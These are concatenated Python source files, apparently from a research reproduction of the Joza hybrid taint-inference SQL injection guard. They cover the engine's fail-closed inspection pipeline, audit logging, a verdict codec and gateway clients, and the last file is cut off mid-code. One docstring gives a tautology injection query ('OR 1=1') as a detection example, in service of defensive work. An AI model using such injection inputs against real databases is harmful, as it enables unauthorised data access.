    ) -> tuple[QueryVerdict, list | None]:
        """The reference pipeline: full PTI (daemon) + NTI run.

        Returns the verdict plus the critical-token list (when one was
        produced) so the caller can plant a shape plan.

        ``pti_outcome`` lets :meth:`inspect_batch` inject the result of an
        already-performed batched daemon exchange: ``("ok", reply)`` stands
        in for a successful ``_call_daemon`` and ``("err", exc)`` re-raises
        the captured failure *inside* the same ``try`` block -- so every
        failure class (deadline, shed, typed PTI failure, unexpected
        exception) flows through exactly the per-query resolution logic
        below, and batch semantics equal serial semantics by construction.
        ``candidates`` (a ``query -> list[str]`` callable) likewise lets
        the batch reuse one memoised NTI candidate enumeration; ``None``
        keeps the analyzer's own enumeration.
        """
        policy = self.config.resilience.failure_policy
        failure_reasons: list[str] = []
        degraded = False

        pti_result: AnalysisResult | None = None
        pti_failed = False
        #: Pool admission control refused the query.  ``None`` = no shed;
        #: ``True`` = SHED_FAIL_CLOSED (verdict must be failsafe);
        #: ``False`` = DEGRADE_TO_OTHER_TECHNIQUE (NTI-only is acceptable
        #: -- the operator opted in at the pool level).
        shed_fail_closed: bool | None = None
        tokens = None
        if self.config.enable_pti:
            t0 = time.perf_counter()
            try:
                if pti_outcome is not None:
                    kind, payload = pti_outcome
                    if kind == "err":
                        raise payload
                    reply = payload
                else:
                    reply = self._call_daemon(query, deadline)
                pti_result = reply.result
                tokens = reply.tokens
            except DeadlineExceeded as exc:
                self.stats.bump(deadline_exceeded=1)
                failure_reasons.append(f"pti: {exc}")
                pti_failed = True
            except PoolSaturated as exc:
                self.stats.bump(load_shed=1)
                shed_fail_closed = exc.fail_closed
                failure_reasons.append(f"pti: {exc.reason}")
                pti_failed = True
            except PTIFailure as exc:
                if isinstance(exc, DaemonUnavailable) and exc.breaker_open:
                    self.stats.bump(breaker_open=1)
                failure_reasons.append(f"pti: {exc.reason}")
                pti_failed = True
            except (KeyboardInterrupt, SystemExit):  # pragma: no cover
                raise
            except Exception as exc:
                # A non-resilient daemon object leaked a raw error (pipe
                # breakage, analyzer bug).  Absorb it: the failure policy
                # decides the verdict, never the exception.
                failure_reasons.append(f"pti: unexpected {exc!r}")
                pti_failed = True
            finally:
                self.stats.bump(pti_seconds=time.perf_counter() - t0)
            # A shed is deliberate load management: running the analysis
            # in-process anyway would defeat it, so the fallback is skipped.
            if (
                pti_failed
                and shed_fail_closed is None
                and policy is FailurePolicy.FALLBACK_IN_PROCESS
            ):
                fallback = self._fallback_pti()
                if fallback is not None:
                    t0 = time.perf_counter()
                    try:
                        deadline.check("pti-fallback")
                        reply = fallback.analyze_query(query, deadline=deadline)
                        pti_result = reply.result
                        tokens = reply.tokens
                        pti_failed = False
                        degraded = True  # fault isolation lost: flag it
                    except DeadlineExceeded as exc:
                        self.stats.bump(deadline_exceeded=1)
                        failure_reasons.append(f"pti-fallback: {exc}")
                    except (KeyboardInterrupt, SystemExit):  # pragma: no cover
                        raise
                    except Exception as exc:  # pragma: no cover - defensive
                        failure_reasons.append(f"pti-fallback: {exc!r}")
                    finally:
                        self.stats.bump(pti_seconds=time.perf_counter() - t0)

        nti_result: AnalysisResult | None = None
        nti_failed = False
        if self.config.enable_nti:
            t0 = time.perf_counter()
            try:
                if context.non_empty_values():
                    if tokens is None:
                        tokens = critical_tokens(
                            query, strict=self.config.strict_tokens
                        )
                    if candidates is None:
                        # Exactly the serial call shape: the NTI slot is
                        # duck-typed (tests install fakes without a
                        # ``values`` parameter).
                        nti_result = self.nti.analyze(
                            query, context, tokens, deadline=deadline
                        )
                    else:
                        nti_result = self.nti.analyze(
                            query,
                            context,
                            tokens,
                            deadline=deadline,
                            values=candidates(query),
                        )
                else:
                    nti_result = AnalysisResult(
                        technique=Technique.NTI, safe=True
                    )
            except DeadlineExceeded as exc:
                self.stats.bump(deadline_exceeded=1)
                failure_reasons.append(f"nti: {exc}")
                nti_failed = True
            except (KeyboardInterrupt, SystemExit):  # pragma: no cover
                raise
            except Exception as exc:
                failure_reasons.append(f"nti: unexpected {exc!r}")
                nti_failed = True
            finally:
                self.stats.bump(nti_seconds=time.perf_counter() - t0)

        # ------------------------------------------------------------------
        # Failure resolution (never fail open).
        # ------------------------------------------------------------------
        failsafe = False
        if pti_failed or nti_failed:
            survivor = nti_result if pti_failed else pti_result
            # The pool's OverloadPolicy overrides the engine policy for
            # shed requests: SHED_FAIL_CLOSED must block regardless of how
            # forgiving the FailurePolicy is; DEGRADE_TO_OTHER_TECHNIQUE
            # permits an NTI-only verdict even under a fail-closed engine
            # policy (the operator opted in at the pool level).
            allow_degrade = (
                policy is FailurePolicy.DEGRADE_TO_OTHER_TECHNIQUE
                or shed_fail_closed is False
            )
            can_degrade = (
                allow_degrade
                and shed_fail_closed is not True
                and not (pti_failed and nti_failed)
                and survivor is not None
            )
            if can_degrade:
                degraded = True
            else:
                failsafe = True

        safe = (
            not failsafe
            and (pti_failed or pti_result is None or pti_result.safe)
            and (nti_failed or nti_result is None or nti_result.safe)
        )
        verdict = QueryVerdict(
            query=query,
            safe=safe,
            pti=None if pti_failed else pti_result,
            nti=None if nti_failed else nti_result,
            degraded=degraded,
            failsafe=failsafe,
            failure_reasons=failure_reasons,
        )
        if not pti_failed and pti_result is not None and not pti_result.safe:
            self.stats.bump(pti_detections=1)
        if not nti_failed and nti_result is not None and not nti_result.safe:
            self.stats.bump(nti_detections=1)
        if degraded:
            self.stats.bump(degraded_verdicts=1)
        if failsafe:
            self.stats.bump(failsafe_blocks=1)
        return verdict, tokens

    # ------------------------------------------------------------------
    # QueryGuard interface (enforcement)
    # ------------------------------------------------------------------

    def check_query(self, query: str, context: RequestContext) -> None:
        """Vet one intercepted query; raises on attack (QueryGuard protocol).

        Failsafe blocks (analysis unavailable, fail-closed policy) raise
        the same :class:`QueryBlockedError` as detections -- the query must
        not execute either way -- but are logged with the ``failsafe`` flag
        and counted separately from ``attacks_blocked``.
        """
        verdict = self.inspect(query, context)
        if verdict.safe:
            return
        if verdict.detected_by():
            self.stats.bump(attacks_blocked=1)
        self.attack_log.append(
            AttackRecord(query=query, verdict=verdict, request_path=context.path)
        )
        terminate = self.config.policy is RecoveryPolicy.TERMINATE
        flagged = ", ".join(sorted(t.value for t in verdict.detected_by()))
        if flagged:
            raise QueryBlockedError(
                f"SQL injection detected by {flagged}", terminate=terminate
            )
        reasons = "; ".join(verdict.failure_reasons) or "analysis unavailable"
        raise QueryBlockedError(
            f"query blocked fail-closed ({reasons})", terminate=terminate
        )

    # ------------------------------------------------------------------
    # Audit
    # ------------------------------------------------------------------

    def attach_durability(self, durable) -> None:
        """Bind a :class:`~repro.persist.DurableState` to this engine.

        Attack records appended to the audit ring are journaled through
        the ring's persistence sink (so eviction stops meaning lost
        evidence), and ``resilience_report()`` grows a ``durability``
        section.  Passing ``None`` detaches.
        """
        self._durable = durable
        if durable is None:
            self.attack_log.attach_sink(None)
            return

        def _persist(record) -> None:
            event = record.to_dict() if hasattr(record, "to_dict") else dict(record)
            durable.append_audit(event)

        self.attack_log.attach_sink(_persist)

    def resilience_report(self) -> dict:
        """Degradation counters + daemon fault-absorption stats.

        The operator-facing view of the failure model: how many queries hit
        the deadline, were refused by an open breaker, got a degraded
        verdict or a failsafe block, and how many audit records the bounded
        ring buffer had to drop.  Zeros across the board mean the runtime
        never had to absorb a fault.
        """
        report: dict = dict(self.stats.resilience_counters())
        report["shape_fastpath"] = self.stats.shape_counters()
        report["shadow_sampling"] = {
            "rate": self.config.shape.shadow_rate,
            "seed": self._shadow_seed,
            "deterministic": self._shadow_seed is not None,
        }
        report["batching"] = self.stats.batch_counters()
        report["dropped_records"] = self.attack_log.dropped_records
        report["attack_log_capacity"] = self.attack_log.capacity
        report["failure_policy"] = self.config.resilience.failure_policy.value
        report["deadline_seconds"] = self.config.resilience.deadline_seconds
        filter_stats = getattr(self.nti, "filter_stats", None)
        if callable(filter_stats):
            # NTI prefilter effectiveness (seeds probed, prune rates,
            # anchored-window coverage); guarded because tests install
            # stand-in analyzers without the counters.
            report["nti_filter"] = filter_stats()
        snapshot = getattr(self.daemon, "resilience_snapshot", None)
        if callable(snapshot):
            report["daemon"] = snapshot()
        tenancy = getattr(self.store, "tenancy_stats", None)
        if callable(tenancy):
            # Engine over a TenantStore: report which fragments are
            # fleet-interned vs tenant-private and the store's epoch
            # (DESIGN.md section 13); registry-wide counters live in the
            # gateway/registry report.
            report["tenancy"] = tenancy()
        if self._durable is not None:
            # Durable state attached (DESIGN.md section 15): journal and
            # checkpoint counters, replay stats, and how much of the audit
            # ring's churn is backed by the journal vs actually lost.
            durability = dict(self._durable.durability_report())
            # ``audit_persisted`` (journal-level) comes from the durable
            # state; the ring counters qualify the in-memory log's churn.
            durability["audit_drops_recovered"] = self.attack_log.drops_recovered
            durability["audit_sink_failures"] = self.attack_log.sink_failures
            report["durability"] = durability
        return report

    def export_attack_log(self) -> str:
        """The attack log as a JSON document (operator audit trail)."""
        import json

        return json.dumps(
            {
                "application_stats": {
                    "queries_checked": self.stats.queries_checked,
                    "attacks_blocked": self.stats.attacks_blocked,
                    "nti_detections": self.stats.nti_detections,
                    "pti_detections": self.stats.pti_detections,
                    "nti_caches": self.nti_cache_stats(),
                    "resilience": self.resilience_report(),
                },
                "attacks": [record.to_dict() for record in self.attack_log],
            },
            indent=2,
        )
