"""The Joza hybrid taint-inference engine (paper Section IV).

:class:`JozaEngine` is the system's primary public entry point.  It wires
the PTI daemon and the NTI analyzer behind the database wrapper's
:class:`~repro.phpapp.application.QueryGuard` interface:

    All commands intended for the backend DBMS are intercepted and first
    sent to the PTI Analysis component, and then to the NTI Analysis
    component before being allowed to proceed to the DBMS.  A query is safe
    if and only if both PTI and NTI components deem the query safe.

Typical use::

    from repro.core import JozaEngine
    engine = JozaEngine.protect(app)        # extract fragments, hook wrapper
    response = app.handle(request)          # attacks now blocked

or, without an application object, analyse queries directly::

    engine = JozaEngine.from_fragments(["SELECT * FROM t WHERE id="])
    verdict = engine.inspect("SELECT * FROM t WHERE id=1 OR 1=1", context)
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Iterable

from ..nti.inference import NTIAnalyzer
from ..phpapp.application import QueryBlockedError, WebApplication
from ..phpapp.context import RequestContext
from ..pti.daemon import PTIDaemon
from ..pti.fragments import FragmentStore
from ..sqlparser.parser import critical_tokens
from .policy import JozaConfig, RecoveryPolicy
from .verdict import AnalysisResult, QueryVerdict, Technique

__all__ = ["JozaEngine", "AttackRecord", "EngineStats"]


@dataclass(frozen=True)
class AttackRecord:
    """Audit-log entry for one blocked query."""

    query: str
    verdict: QueryVerdict
    request_path: str

    def to_dict(self) -> dict:
        """JSON-serialisable form for audit export."""
        return {
            "query": self.query,
            "request_path": self.request_path,
            "detected_by": sorted(t.value for t in self.verdict.detected_by()),
            "detections": [
                {
                    "technique": d.technique.value,
                    "token": d.token_text,
                    "start": d.token_start,
                    "end": d.token_end,
                    "reason": d.reason,
                    "input": d.input_value,
                }
                for d in self.verdict.detections
            ],
        }


@dataclass
class EngineStats:
    """Aggregate counters for reporting."""

    queries_checked: int = 0
    attacks_blocked: int = 0
    nti_detections: int = 0
    pti_detections: int = 0
    nti_seconds: float = 0.0
    pti_seconds: float = 0.0


class JozaEngine:
    """Hybrid NTI + PTI query guard."""

    def __init__(
        self,
        store: FragmentStore,
        config: JozaConfig | None = None,
        *,
        daemon=None,
    ) -> None:
        self.config = config or JozaConfig()
        #: Any object with ``analyze_query(query) -> DaemonReply`` works here;
        #: benchmarks substitute a
        #: :class:`~repro.pti.daemon.SubprocessPTIDaemon` to measure the
        #: paper's deployment architecture.
        self.daemon = daemon if daemon is not None else PTIDaemon(
            store, self.config.daemon
        )
        self.nti = NTIAnalyzer(self.config.nti)
        self.stats = EngineStats()
        self.attack_log: list[AttackRecord] = []

    # ------------------------------------------------------------------
    # Construction helpers
    # ------------------------------------------------------------------

    @classmethod
    def from_fragments(
        cls, fragments: Iterable[str], config: JozaConfig | None = None
    ) -> "JozaEngine":
        """Build an engine over an explicit fragment vocabulary."""
        return cls(FragmentStore(fragments), config)

    @classmethod
    def from_sources(
        cls, sources: Iterable[str], config: JozaConfig | None = None
    ) -> "JozaEngine":
        """Build an engine by extracting fragments from PHP source texts."""
        return cls(FragmentStore.from_sources(sources), config)

    @classmethod
    def protect(
        cls, app: WebApplication, config: JozaConfig | None = None
    ) -> "JozaEngine":
        """Install Joza on an application (the paper's installation step).

        Extracts fragments from the application core and all plugins,
        installs the query guard on the database wrapper, and subscribes to
        plugin changes so the fragment set stays complete (Section IV-B).
        """
        engine = cls.from_sources(app.all_sources(), config)
        app.install_guard(engine)

        def refresh() -> None:
            if hasattr(engine.daemon, "refresh_fragments"):
                engine.daemon.refresh_fragments(
                    FragmentStore.from_sources(app.all_sources())
                )

        app.on_source_change(refresh)
        return engine

    @property
    def store(self) -> FragmentStore:
        return self.daemon.store

    def nti_cache_stats(self) -> dict[str, dict[str, float]]:
        """Hit/miss counters of the NTI match/profile caches.

        The NTI analogue of the PTI cache accounting: surfaced so the bench
        reporting layer (Figure 8 and the cache ablations) can attribute
        how much of the NTI hot path is served from memoised matches.
        """
        return self.nti.cache_stats()

    # ------------------------------------------------------------------
    # Analysis
    # ------------------------------------------------------------------

    def inspect(self, query: str, context: RequestContext) -> QueryVerdict:
        """Run the full hybrid pipeline without enforcement.

        PTI runs first (through the daemon and its caches); NTI runs second,
        reusing the critical tokens the daemon extracted when available
        (Section IV-D).  NTI is skipped entirely when the request carried no
        input -- "[NTI] only needs to be computed when input is provided to
        the application" (Section III-A).
        """
        self.stats.queries_checked += 1
        pti_result: AnalysisResult | None = None
        tokens = None
        if self.config.enable_pti:
            t0 = time.perf_counter()
            reply = self.daemon.analyze_query(query)
            self.stats.pti_seconds += time.perf_counter() - t0
            pti_result = reply.result
            tokens = reply.tokens
        nti_result: AnalysisResult | None = None
        if self.config.enable_nti:
            t0 = time.perf_counter()
            if context.non_empty_values():
                if tokens is None:
                    tokens = critical_tokens(
                        query, strict=self.config.strict_tokens
                    )
                nti_result = self.nti.analyze(query, context, tokens)
            else:
                nti_result = AnalysisResult(technique=Technique.NTI, safe=True)
            self.stats.nti_seconds += time.perf_counter() - t0
        safe = (pti_result is None or pti_result.safe) and (
            nti_result is None or nti_result.safe
        )
        verdict = QueryVerdict(query=query, safe=safe, pti=pti_result, nti=nti_result)
        if pti_result is not None and not pti_result.safe:
            self.stats.pti_detections += 1
        if nti_result is not None and not nti_result.safe:
            self.stats.nti_detections += 1
        return verdict

    # ------------------------------------------------------------------
    # QueryGuard interface (enforcement)
    # ------------------------------------------------------------------

    def check_query(self, query: str, context: RequestContext) -> None:
        """Vet one intercepted query; raises on attack (QueryGuard protocol)."""
        verdict = self.inspect(query, context)
        if verdict.safe:
            return
        self.stats.attacks_blocked += 1
        self.attack_log.append(
            AttackRecord(query=query, verdict=verdict, request_path=context.path)
        )
        flagged = ", ".join(sorted(t.value for t in verdict.detected_by()))
        raise QueryBlockedError(
            f"SQL injection detected by {flagged}",
            terminate=self.config.policy is RecoveryPolicy.TERMINATE,
        )

    # ------------------------------------------------------------------
    # Audit
    # ------------------------------------------------------------------

    def export_attack_log(self) -> str:
        """The attack log as a JSON document (operator audit trail)."""
        import json

        return json.dumps(
            {
                "application_stats": {
                    "queries_checked": self.stats.queries_checked,
                    "attacks_blocked": self.stats.attacks_blocked,
                    "nti_detections": self.stats.nti_detections,
                    "pti_detections": self.stats.pti_detections,
                    "nti_caches": self.nti_cache_stats(),
                },
                "attacks": [record.to_dict() for record in self.attack_log],
            },
            indent=2,
        )
