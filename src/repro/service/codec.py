"""Verdict payload codec for the gateway wire protocol.

The wire layer (:mod:`repro.pti.wire`) treats per-query verdicts as opaque
byte strings; this module owns their schema: a canonical JSON rendering of
:class:`~repro.core.verdict.QueryVerdict` that is deterministic (sorted
keys, compact separators) so the parity acceptance criterion -- gateway
verdicts byte-identical to in-process ``inspect_batch`` -- is checkable by
comparing encoded bytes directly.

Decoding is fail-closed: any payload that is not a well-formed verdict
document raises :class:`CodecError`, which clients must treat as a block.
"""

from __future__ import annotations

import json
from typing import Any, Mapping

from ..core.verdict import (
    AnalysisResult,
    Detection,
    QueryVerdict,
    TaintMarking,
    Technique,
)

__all__ = [
    "CodecError",
    "verdict_to_dict",
    "dict_to_verdict",
    "encode_verdict",
    "decode_verdict",
    "failsafe_dict",
]


class CodecError(ValueError):
    """A verdict payload could not be decoded (treat as fail-closed)."""


def _marking_to_dict(marking: TaintMarking) -> dict:
    return {
        "start": marking.start,
        "end": marking.end,
        "technique": marking.technique.value,
        "origin": marking.origin,
        "ratio": marking.ratio,
    }


def _detection_to_dict(detection: Detection) -> dict:
    return {
        "technique": detection.technique.value,
        "reason": detection.reason,
        "token_text": detection.token_text,
        "token_start": detection.token_start,
        "token_end": detection.token_end,
        "input_value": detection.input_value,
    }


def _result_to_dict(result: AnalysisResult | None) -> dict | None:
    if result is None:
        return None
    return {
        "technique": result.technique.value,
        "safe": result.safe,
        "markings": [_marking_to_dict(m) for m in result.markings],
        "detections": [_detection_to_dict(d) for d in result.detections],
        "from_cache": result.from_cache,
    }


def verdict_to_dict(verdict: QueryVerdict) -> dict:
    """Full JSON-serialisable form of one verdict (lossless for parity)."""
    return {
        "query": verdict.query,
        "safe": verdict.safe,
        "degraded": verdict.degraded,
        "failsafe": verdict.failsafe,
        "failure_reasons": list(verdict.failure_reasons),
        "pti": _result_to_dict(verdict.pti),
        "nti": _result_to_dict(verdict.nti),
    }


def failsafe_dict(query: str, reason: str, *, tenant: str | None = None) -> dict:
    """The verdict dict for a query the gateway itself refused.

    Sheds, expired-on-arrival deadlines, worker crashes and
    unknown-tenant routing refusals never produce analysis results --
    they produce this: an unsafe, failsafe-flagged verdict with the
    refusal reason recorded.  Shape-identical to :func:`verdict_to_dict`
    of an engine failsafe block so clients handle both uniformly.  When
    ``tenant`` is given (multi-tenant refusals), the tenant id rides as a
    second ``failure_reasons`` entry so audit greps can attribute the
    refusal without parsing the reason text.
    """
    reasons = [reason]
    if tenant is not None:
        reasons.append(f"tenant: {tenant}")
    return {
        "query": query,
        "safe": False,
        "degraded": False,
        "failsafe": True,
        "failure_reasons": reasons,
        "pti": None,
        "nti": None,
    }


def _technique(value: Any) -> Technique:
    try:
        return Technique(value)
    except (ValueError, TypeError) as exc:
        raise CodecError(f"bad technique tag: {value!r}") from exc


def _result_from_dict(data: Any) -> AnalysisResult | None:
    if data is None:
        return None
    if not isinstance(data, Mapping):
        raise CodecError(f"analysis result must be an object, got {type(data)}")
    try:
        markings = [
            TaintMarking(
                start=int(m["start"]),
                end=int(m["end"]),
                technique=_technique(m["technique"]),
                origin=str(m["origin"]),
                ratio=float(m["ratio"]),
            )
            for m in data["markings"]
        ]
        detections = [
            Detection(
                technique=_technique(d["technique"]),
                reason=str(d["reason"]),
                token_text=str(d["token_text"]),
                token_start=int(d["token_start"]),
                token_end=int(d["token_end"]),
                input_value=(
                    None if d["input_value"] is None else str(d["input_value"])
                ),
            )
            for d in data["detections"]
        ]
        return AnalysisResult(
            technique=_technique(data["technique"]),
            safe=bool(data["safe"]),
            markings=markings,
            detections=detections,
            from_cache=(
                None if data["from_cache"] is None else str(data["from_cache"])
            ),
        )
    except (KeyError, TypeError, ValueError) as exc:
        raise CodecError(f"malformed analysis result: {exc}") from exc


def dict_to_verdict(data: Mapping[str, Any]) -> QueryVerdict:
    """Rebuild a :class:`QueryVerdict` from its dict form (fail-closed)."""
    if not isinstance(data, Mapping):
        raise CodecError(f"verdict must be an object, got {type(data)}")
    try:
        return QueryVerdict(
            query=str(data["query"]),
            safe=bool(data["safe"]),
            pti=_result_from_dict(data["pti"]),
            nti=_result_from_dict(data["nti"]),
            degraded=bool(data["degraded"]),
            failsafe=bool(data["failsafe"]),
            failure_reasons=[str(r) for r in data["failure_reasons"]],
        )
    except (KeyError, TypeError, ValueError) as exc:
        raise CodecError(f"malformed verdict: {exc}") from exc


def encode_verdict(data: Mapping[str, Any]) -> bytes:
    """Canonical JSON bytes of a verdict dict (deterministic: sorted keys)."""
    return json.dumps(
        data, sort_keys=True, separators=(",", ":"), ensure_ascii=True
    ).encode("ascii")


def decode_verdict(payload: bytes) -> dict:
    """Parse verdict payload bytes; :class:`CodecError` on any damage.

    Returns the raw dict (use :func:`dict_to_verdict` to hydrate).  The
    returned dict is validated to at least carry the mandatory keys with
    sane types, so a mangled-but-parseable payload cannot smuggle a PASS:
    ``safe`` must be literally ``True`` to be treated as safe downstream,
    and anything that fails validation here raises.
    """
    try:
        data = json.loads(payload.decode("utf-8"))
    except (UnicodeDecodeError, json.JSONDecodeError) as exc:
        raise CodecError(f"undecodable verdict payload: {exc}") from exc
    if not isinstance(data, dict):
        raise CodecError(f"verdict payload must be an object, got {type(data)}")
    for key in ("query", "safe", "degraded", "failsafe", "failure_reasons"):
        if key not in data:
            raise CodecError(f"verdict payload missing {key!r}")
    if not isinstance(data["safe"], bool):
        raise CodecError(f"verdict 'safe' must be a bool, got {data['safe']!r}")
    return data
