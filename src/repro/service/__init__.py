"""Network sidecar deployment of the Joza guard (DESIGN.md section 12).

The paper deploys Joza as a database-interposition layer in front of real
web applications (Section V); this package is that deployment shape for
the reproduction: an asyncio gateway speaking the length-prefixed binary
protocol of :mod:`repro.pti.wire` over unix / TCP sockets, dispatching to
a fleet of worker *processes* (one :class:`~repro.core.JozaEngine` each,
optionally backed by a :class:`~repro.pti.pool.DaemonPool`) so N app
servers share one guard without sharing a GIL.

Every failure mode -- torn frame, dead worker, saturated queue, expired
deadline, mid-drain arrival -- resolves to a recorded fail-closed verdict
or a clean protocol error, never a silent pass.
"""

from .codec import (
    CodecError,
    decode_verdict,
    encode_verdict,
    failsafe_dict,
    verdict_to_dict,
)
from .gateway import (
    AsyncGateway,
    GatewayConfig,
    GatewayStats,
    GatewayThread,
    serve,
)
from .client import (
    AsyncGatewayClient,
    GatewayClient,
    GatewayError,
)
from .worker import GatewayWorker, WorkerFailure

__all__ = [
    "AsyncGateway",
    "AsyncGatewayClient",
    "CodecError",
    "GatewayClient",
    "GatewayConfig",
    "GatewayError",
    "GatewayStats",
    "GatewayThread",
    "GatewayWorker",
    "WorkerFailure",
    "decode_verdict",
    "encode_verdict",
    "failsafe_dict",
    "serve",
    "verdict_to_dict",
]
