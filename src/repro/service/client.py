"""Gateway clients (sync + async), fail-closed by construction.

Both clients expose ``inspect(queries, ...) -> list[verdict dict]`` and
raise :class:`GatewayError` when no trustworthy verdict could be obtained
-- connection refused, retries exhausted, breaker open, protocol error,
undecodable payload.  Callers must treat :class:`GatewayError` exactly
like an unsafe verdict: the query does not run.  There is deliberately no
"assume safe on error" knob.

The sync client reuses the engine's own resilience primitives: a
:class:`~repro.core.resilience.RetryPolicy` (jittered backoff, seeded for
reproducible chaos runs) around connect/IPC and a
:class:`~repro.core.resilience.CircuitBreaker` so a dead sidecar costs
each request one refused call, not one connect timeout.
"""

from __future__ import annotations

import asyncio
import random
import socket
import struct
import time
from typing import Sequence

from ..core.resilience import CircuitBreaker, RetryPolicy
from ..pti import wire
from .codec import CodecError, decode_verdict

__all__ = ["GatewayClient", "AsyncGatewayClient", "GatewayError"]


class GatewayError(Exception):
    """No trustworthy verdict; the caller must fail closed.

    ``code`` carries the wire error code when the gateway itself refused
    (:data:`~repro.pti.wire.GW_ERR_DRAINING` etc.), else 0 for transport /
    decode failures.
    """

    def __init__(self, reason: str, *, code: int = 0) -> None:
        super().__init__(reason)
        self.reason = reason
        self.code = code


def _recv_exactly(sock: socket.socket, n: int) -> bytes:
    chunks = []
    remaining = n
    while remaining > 0:
        chunk = sock.recv(remaining)
        if not chunk:
            raise GatewayError(
                f"connection closed mid-reply ({n - remaining}/{n} bytes)"
            )
        chunks.append(chunk)
        remaining -= len(chunk)
    return b"".join(chunks)


def _decode_reply(frame: bytes, expected: int) -> list[dict]:
    """Shared reply validation: reply frame -> verdict dicts, fail closed."""
    try:
        kind = wire.peek_kind(frame)
        if kind == wire.KIND_GW_ERROR:
            code, message = wire.unpack_gateway_error(frame)
            raise GatewayError(f"gateway refused: {message}", code=code)
        if kind != wire.KIND_GW_REPLY:
            raise GatewayError(f"unexpected reply kind: {kind}")
        payloads = wire.unpack_gateway_reply(frame)
    except wire.WireFormatError as exc:
        raise GatewayError(f"corrupt reply frame: {exc}") from exc
    if len(payloads) != expected:
        raise GatewayError(
            f"got {len(payloads)} verdicts for {expected} queries"
        )
    try:
        return [decode_verdict(p) for p in payloads]
    except CodecError as exc:
        raise GatewayError(f"undecodable verdict: {exc}") from exc


class GatewayClient:
    """Synchronous gateway client over a persistent socket.

    Args:
        unix_path: unix socket to connect to (preferred), or
        host/port: TCP endpoint.
        client_id: tenant/connection id stamped into every request (and
            into gateway-side audit records).
        timeout: socket timeout per send/recv (transport stall bound;
            independent of the analysis ``budget``).
        retry: backoff schedule for reconnect + resend (idempotent: a
            request either produced a reply or it didn't; replaying an
            inspect is side-effect-free on the guard).
        breaker: circuit breaker over transport health; open means
            immediate :class:`GatewayError` without touching the socket.
        seed: RNG seed for backoff jitter.
    """

    def __init__(
        self,
        *,
        unix_path: str | None = None,
        host: str | None = None,
        port: int = 0,
        client_id: str = "",
        timeout: float = 10.0,
        retry: RetryPolicy | None = None,
        breaker: CircuitBreaker | None = None,
        seed: int | None = None,
    ) -> None:
        if unix_path is None and host is None:
            raise ValueError("need a unix_path or a host to connect to")
        self.unix_path = unix_path
        self.host = host
        self.port = port
        self.client_id = client_id
        self.timeout = timeout
        self.retry = retry or RetryPolicy()
        self.breaker = breaker if breaker is not None else CircuitBreaker()
        self._rng = random.Random(seed)
        self._sock: socket.socket | None = None

    # -- transport -----------------------------------------------------

    def _connect(self) -> socket.socket:
        if self._sock is not None:
            return self._sock
        if self.unix_path is not None:
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.settimeout(self.timeout)
            sock.connect(self.unix_path)
        else:
            sock = socket.create_connection(
                (self.host, self.port), timeout=self.timeout
            )
        self._sock = sock
        return sock

    def _drop(self) -> None:
        if self._sock is not None:
            try:
                self._sock.close()
            except OSError:  # pragma: no cover - defensive
                pass
            self._sock = None

    def _round_trip(self, frame: bytes) -> bytes:
        sock = self._connect()
        sock.sendall(wire.PREFIX.pack(len(frame)) + frame)
        header = _recv_exactly(sock, wire.PREFIX.size)
        (length,) = wire.PREFIX.unpack(header)
        if length == 0 or length > wire.MAX_FRAME:
            raise GatewayError(f"reply frame of {length} bytes refused")
        return _recv_exactly(sock, length)

    # -- API -----------------------------------------------------------

    def inspect(
        self,
        queries: Sequence[str],
        *,
        path: str = "/",
        inputs: Sequence[tuple[str, str, str]] = (),
        budget: float | None = None,
    ) -> list[dict]:
        """Vet a batch; one verdict dict per query, in order.

        Raises :class:`GatewayError` when no verdict could be obtained --
        treat it as a block.
        """
        if not queries:
            return []
        frame = wire.pack_gateway_request(
            list(queries),
            client_id=self.client_id,
            path=path,
            inputs=list(inputs),
            budget=budget,
        )
        if not self.breaker.allow():
            raise GatewayError("client circuit breaker open")
        last: GatewayError | None = None
        for attempt in range(self.retry.max_attempts):
            if attempt:
                time.sleep(self.retry.delay(attempt - 1, self._rng))
            try:
                reply = self._round_trip(frame)
                verdicts = _decode_reply(reply, len(queries))
            except GatewayError as exc:
                self._drop()
                if exc.code:
                    # The gateway answered (drain/refusal): a healthy
                    # transport, no point hammering it with retries.
                    self.breaker.record_success()
                    raise
                last = exc
                self.breaker.record_failure()
                continue
            except (OSError, struct.error) as exc:
                self._drop()
                last = GatewayError(
                    f"transport failure: {type(exc).__name__}: {exc}"
                )
                self.breaker.record_failure()
                continue
            self.breaker.record_success()
            return verdicts
        assert last is not None
        raise last

    def close(self) -> None:
        self._drop()

    def __enter__(self) -> "GatewayClient":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()


class AsyncGatewayClient:
    """Asyncio gateway client (one connection, strictly sequential calls)."""

    def __init__(
        self,
        *,
        unix_path: str | None = None,
        host: str | None = None,
        port: int = 0,
        client_id: str = "",
        timeout: float = 10.0,
    ) -> None:
        if unix_path is None and host is None:
            raise ValueError("need a unix_path or a host to connect to")
        self.unix_path = unix_path
        self.host = host
        self.port = port
        self.client_id = client_id
        self.timeout = timeout
        self._reader: asyncio.StreamReader | None = None
        self._writer: asyncio.StreamWriter | None = None

    async def _connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        if self._reader is not None and self._writer is not None:
            return self._reader, self._writer
        if self.unix_path is not None:
            reader, writer = await asyncio.open_unix_connection(self.unix_path)
        else:
            reader, writer = await asyncio.open_connection(
                self.host, self.port
            )
        self._reader, self._writer = reader, writer
        return reader, writer

    async def close(self) -> None:
        if self._writer is not None:
            self._writer.close()
            try:
                await self._writer.wait_closed()
            except (ConnectionResetError, BrokenPipeError, OSError):
                pass
        self._reader = self._writer = None

    async def inspect(
        self,
        queries: Sequence[str],
        *,
        path: str = "/",
        inputs: Sequence[tuple[str, str, str]] = (),
        budget: float | None = None,
    ) -> list[dict]:
        """Async twin of :meth:`GatewayClient.inspect` (fail-closed)."""
        if not queries:
            return []
        frame = wire.pack_gateway_request(
            list(queries),
            client_id=self.client_id,
            path=path,
            inputs=list(inputs),
            budget=budget,
        )
        try:
            reader, writer = await self._connect()
            writer.write(wire.PREFIX.pack(len(frame)) + frame)
            await writer.drain()
            header = await asyncio.wait_for(
                reader.readexactly(wire.PREFIX.size), timeout=self.timeout
            )
            (length,) = wire.PREFIX.unpack(header)
            if length == 0 or length > wire.MAX_FRAME:
                raise GatewayError(f"reply frame of {length} bytes refused")
            reply = await asyncio.wait_for(
                reader.readexactly(length), timeout=self.timeout
            )
        except GatewayError:
            await self.close()
            raise
        except (
            OSError,
            asyncio.IncompleteReadError,
